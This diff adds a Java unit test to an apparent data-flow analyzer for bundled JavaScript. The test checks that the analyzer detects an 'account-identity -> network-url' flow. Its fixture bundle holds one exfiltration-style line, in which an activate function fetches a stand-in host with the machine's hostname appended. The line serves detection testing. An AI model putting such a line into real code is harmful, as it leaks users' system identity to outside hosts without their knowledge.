@@ -318,4 +318,23 @@ class CompiledGeneratorsTest {
 
         assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
     }
+
+    @Test
+    void aModuleOfABundleThatHoldsTheHelperOfTypeScriptRuns() {
+        Analysis analysis = Analysis.of("""
+                (() => {
+                  var all = { 7: (module, exports, load) => {
+                    var generators = this && this.made || function (self, given, body) {
+                      if (!Symbol.asyncIterator) throw new TypeError("Symbol.asyncIterator is not defined.");
+                    };
+                    const os = load(8);
+                    exports.activate = () => fetch('https://module.example/' + os.hostname());
+                  }, 8: module => { module.exports = require('os'); } };
+                  function load(id) { const made = { exports: {} }; all[id](made, made.exports, load); return made.exports; }
+                  module.exports = load(7);
+                })();
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
+    }
 }
